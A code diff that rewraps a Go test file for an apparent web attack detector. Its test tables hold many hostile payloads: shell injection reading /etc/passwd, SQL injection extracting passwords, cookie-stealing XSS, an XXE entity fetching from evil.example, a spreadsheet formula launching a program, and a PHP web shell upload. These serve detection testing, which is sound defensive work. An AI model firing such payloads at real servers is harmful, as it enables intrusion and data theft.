@@ -25,7 +25,8 @@ func (c *call) signals(t *testing.T) []signal.Signal {
 	if x.Method == "" {
 		x.Method = "GET"
 	}
-	r := &request.Request{Head: request.Head{Method: x.Method, Target: x.Target, Fields: []request.Field{{Name: "Host", Value: "api.example.com"}}}}
+	r := &request.Request{Head: request.Head{Method: x.Method, Target: x.Target,
+		Fields: []request.Field{{Name: "Host", Value: "api.example.com"}}}}
 	for _, f := range [...][2]string{{"Content-Type", c.Type}, {"Cookie", c.Cookie}} {
 		if f[1] != "" {
 			r.Head.Fields = append(r.Head.Fields, request.Field{Name: f[0], Value: f[1]})
@@ -82,39 +83,42 @@ func TestHonestRequests(t *testing.T) {
 func TestAttacksBesideHonest(t *testing.T) {
 	const form, document = "application/x-www-form-urlencoded", "application/json"
 	for name, c := range map[string]call{
-		"a separator before a reference's end":  {Target: "/?host=a%26amp;cat%20/etc/passwd"},
-		"a command behind a value":              {Type: document, Body: `{"command":"127.0.0.1; cat /etc/passwd"}`},
-		"a command behind a host":               {Type: document, Body: `{"args":"a.example;id>/tmp/x"}`},
-		"a separator at once":                   {Type: document, Body: `{"comment":";cat /etc/passwd"}`},
-		"a separator without space":             {Type: document, Body: `{"comment":"hello;cat /etc/passwd"}`},
-		"a substitution alone":                  {Type: document, Body: `{"comment":"$(cat /etc/passwd)"}`},
-		"a command in another field":            {Type: document, Body: `{"name":"x; cat /etc/passwd"}`},
-		"a list that reads a file":              {Target: "/?q=a%7Ccat%20/etc/passwd%7Cb"},
-		"a bar and a command":                   {Target: "/?q=a%7Cid"},
-		"control bytes and a command":           {Target: "/?q=%01%02;cat%20/etc/passwd"},
-		"a report's type, another document":     {Type: "application/csp-report", Body: `{"q":"' UNION SELECT password FROM users--"}`},
-		"reports' type, another document":       {Type: "application/reports+json", Body: `[{"name":"' UNION SELECT password FROM users--"}]`},
-		"a form's stack":                        {Method: "POST", Type: form, Body: `error=%27%20UNION%20SELECT%20password%20FROM%20users--`},
-		"a title without a sentence":            {Type: document, Body: `{"title":"x' or '1'='1"}`},
-		"an address whose path is an attack":    {Type: document, Body: `{"url":"https://a.example/\"><script>alert(1)</script>?a=b"}`},
-		"an address in a query":                 {Target: "/?url=https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
-		"two words and a statement":             {Target: "/?q=1%27%20union%20select%20password%20from%20users"},
-		"union select behind a literal":         {Target: "/?id=1%20union%20select"},
-		"a select with a list":                  {Target: "/?q=1%20and%20(select%20password%20from%20users)"},
-		"a function":                            {Target: "/?q=1%20and%20sleep(5)"},
-		"a formula that sleeps":                 {Type: document, Body: `{"cell":"=IF(1=1,SLEEP(5),0)"}`},
-		"a formula that starts a program":       {Type: document, Body: `{"cell":"=cmd|'/c calc'!A0"}`},
-		"a geometry that is left":               {Type: document, Body: `{"geom":"SRID=4326;POINT(1 2)'; DROP TABLE places--"}`},
-		"a number in quotes that is left":       {Target: "/?id=%271%27%20or%20%271%27=%271"},
-		"a method's cast":                       {Target: "/?select=version()::text,(select%20password%20from%20users)::text"},
-		"a link that runs script":               {Type: document, Body: `{"href":"javascript:alert(1)"}`},
-		"a link that hides script":              {Type: document, Body: `{"href":"javascript:void(0);alert(document.cookie)"}`},
-		"a handler that runs":                   {Type: document, Body: `{"dom":"<a onclick=\"return alert(1)\">x</a>"}`},
-		"a picture with script":                 {Method: "POST", Type: "multipart/form-data; boundary=b", Body: "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<svg viewBox=\"0 0 1 1\" onload=\"alert(1)\"/>\r\n--b--\r\n"},
-		"a drawing in a value":                  {Type: document, Body: `{"icon":"<svg viewBox=\"0 0 1 1\" onload=alert(1)>"}`},
-		"a frame that loads":                    {Target: "/?q=%3Cframe%20src=//evil.example%3E"},
-		"a tag that ends":                       {Target: "/?q=hello%20world%20%3Cscript%3Ealert(1)%3C/script%3E"},
-		"a script by PUT":                       {Method: "PUT", Target: "/a/shell.php", Type: "text/plain", Body: "<?php system($_GET['c']);"},
+		"a separator before a reference's end": {Target: "/?host=a%26amp;cat%20/etc/passwd"},
+		"a command behind a value":             {Type: document, Body: `{"command":"127.0.0.1; cat /etc/passwd"}`},
+		"a command behind a host":              {Type: document, Body: `{"args":"a.example;id>/tmp/x"}`},
+		"a separator at once":                  {Type: document, Body: `{"comment":";cat /etc/passwd"}`},
+		"a separator without space":            {Type: document, Body: `{"comment":"hello;cat /etc/passwd"}`},
+		"a substitution alone":                 {Type: document, Body: `{"comment":"$(cat /etc/passwd)"}`},
+		"a command in another field":           {Type: document, Body: `{"name":"x; cat /etc/passwd"}`},
+		"a list that reads a file":             {Target: "/?q=a%7Ccat%20/etc/passwd%7Cb"},
+		"a bar and a command":                  {Target: "/?q=a%7Cid"},
+		"control bytes and a command":          {Target: "/?q=%01%02;cat%20/etc/passwd"},
+		"a report's type, another document":    {Type: "application/csp-report", Body: `{"q":"' UNION SELECT password FROM users--"}`},
+		"reports' type, another document":      {Type: "application/reports+json", Body: `[{"name":"' UNION SELECT password FROM users--"}]`},
+		"a form's stack":                       {Method: "POST", Type: form, Body: `error=%27%20UNION%20SELECT%20password%20FROM%20users--`},
+		"a title without a sentence":           {Type: document, Body: `{"title":"x' or '1'='1"}`},
+		"an address whose path is an attack":   {Type: document, Body: `{"url":"https://a.example/\"><script>alert(1)</script>?a=b"}`},
+		"an address in a query":                {Target: "/?url=https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
+		"two words and a statement":            {Target: "/?q=1%27%20union%20select%20password%20from%20users"},
+		"union select behind a literal":        {Target: "/?id=1%20union%20select"},
+		"a select with a list":                 {Target: "/?q=1%20and%20(select%20password%20from%20users)"},
+		"a function":                           {Target: "/?q=1%20and%20sleep(5)"},
+		"a formula that sleeps":                {Type: document, Body: `{"cell":"=IF(1=1,SLEEP(5),0)"}`},
+		"a formula that starts a program":      {Type: document, Body: `{"cell":"=cmd|'/c calc'!A0"}`},
+		"a geometry that is left":              {Type: document, Body: `{"geom":"SRID=4326;POINT(1 2)'; DROP TABLE places--"}`},
+		"a number in quotes that is left":      {Target: "/?id=%271%27%20or%20%271%27=%271"},
+		"a method's cast":                      {Target: "/?select=version()::text,(select%20password%20from%20users)::text"},
+		"a link that runs script":              {Type: document, Body: `{"href":"javascript:alert(1)"}`},
+		"a link that hides script":             {Type: document, Body: `{"href":"javascript:void(0);alert(document.cookie)"}`},
+		"a handler that runs":                  {Type: document, Body: `{"dom":"<a onclick=\"return alert(1)\">x</a>"}`},
+		"a picture with script": {Method: "POST", Type: "multipart/form-data; boundary=b",
+			Body: "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.svg\"\r\nContent-Type: " +
+				"image/svg+xml\r\n\r\n<svg viewBox=\"0 0 1 1\" onload=\"alert(1)\"/>\r\n--b--\r\n"},
+		"a drawing in a value": {Type: document, Body: `{"icon":"<svg viewBox=\"0 0 1 1\" onload=alert(1)>"}`},
+		"a frame that loads":   {Target: "/?q=%3Cframe%20src=//evil.example%3E"},
+		"a tag that ends":      {Target: "/?q=hello%20world%20%3Cscript%3Ealert(1)%3C/script%3E"},
+		"a script by PUT": {Method: "PUT", Target: "/a/shell.php", Type: "text/plain",
+			Body: "<?php system($_GET['c']);"},
 		"an include that runs":                  {Type: document, Body: `{"html":"<!--#exec cmd=\"id\"-->"}`},
 		"an include of a system's file":         {Type: document, Body: `{"html":"<!--#include virtual=\"/etc/passwd\"-->"}`},
 		"an entity from afar":                   {Method: "POST", Type: "application/xml", Body: `<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil.example/b.xml">]><a>&b;</a>`},
@@ -167,7 +171,8 @@ func TestTagsLowerBands(t *testing.T) {
 		want signal.Band
 	}{
 		{0, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack}, signal.Certain},
-		{request.TagContent, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack}, signal.Certain},
+		{request.TagContent, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack},
+			signal.Certain},
 		{request.TagTelemetry, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack}, signal.Hint},
 		{request.TagCode, call{Method: "POST", Target: "/x", Type: "application/json", Body: attack}, signal.Hint},
 		{request.TagTelemetry, call{Target: "/x?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, signal.Certain},
@@ -177,7 +182,8 @@ func TestTagsLowerBands(t *testing.T) {
 	} {
 		tt.call.Tags = tt.tags
 		if got, found := strongest(tt.call.signals(t)); !found || got != tt.want {
-			t.Errorf("tags %b, %s %s: got %v, found %t; want %v", tt.tags, tt.call.Target, tt.call.Body, got, found, tt.want)
+			t.Errorf("tags %b, %s %s: got %v, found %t; want %v", tt.tags, tt.call.Target, tt.call.Body, got, found,
+				tt.want)
 		}
 	}
 }
@@ -191,7 +197,8 @@ func TestOwnPageInReferer(t *testing.T) {
 		"/search/1%27%20UNION%20SELECT%20password%20FROM%20users--?a=b":   signal.Certain,
 		"/search?a=b&1%27%20UNION%20SELECT%20password%20FROM%20users--=c": signal.Certain,
 	} {
-		r := head(newDetector(t), "/next", request.Field{Name: "Referer", Value: "https://shop.example:8443" + target}, request.Field{Name: "Host", Value: "shop.example"})
+		r := head(newDetector(t), "/next", request.Field{Name: "Referer", Value: "https://shop.example:8443" + target},
+			request.Field{Name: "Host", Value: "shop.example"})
 		r.Head.Host = "shop.example"
 		r.Signals = nil
 		newDetector(t).Head(r)
